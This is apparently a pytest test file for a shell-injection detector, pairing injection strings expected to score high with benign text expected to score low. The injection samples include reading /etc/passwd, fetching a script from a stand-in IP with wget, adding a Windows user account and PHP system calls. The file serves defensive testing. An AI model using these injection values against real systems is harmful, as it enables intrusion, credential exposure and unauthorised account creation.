"""Shell injection read like a shell: what stands before the separator decides."""

from __future__ import annotations

import pytest

from filters.threat.shell import commands


def strongest(text: str) -> float:
    return max((found.weight for found in commands(text.lower())), default=0.0)


@pytest.mark.parametrize("text", [
    "; cat /etc/passwd", "| id", "`whoami`", "x`id`", "127.0.0.1 && ping -c 4 10.0.0.1", "x; ls -la",
    "name=$(uname -a)", "'; wget http://198.51.100.7/x.sh", "abc || sleep 5", "8.8.8.8|nslookup example.org",
    "&& net user mallory /add", "| net view //fileserver", "1;cat<<<x", "system('id')", "passthru(\"whoami\")",
])
def test_injections(text: str) -> None:
    assert strongest(text) >= 0.85, commands(text.lower())


@pytest.mark.parametrize("text", [
    "ps aux | grep python", "run `ls -la` in the folder", "`env`: prints the environment",
    "e.g., `grep -v x file | sort`", "Terms & conditions; see section 3", "I am tired; sleep is needed",
    "| id | name | email |", "https://shop.example/?a=1&id=2", "rock & roll", "cd ../../ then make",
    "thanks\ncat pictures are the best", "find . -name '*.py' | xargs wc -l",
])
def test_not_injections(text: str) -> None:
    assert strongest(text) < 0.5, commands(text.lower())
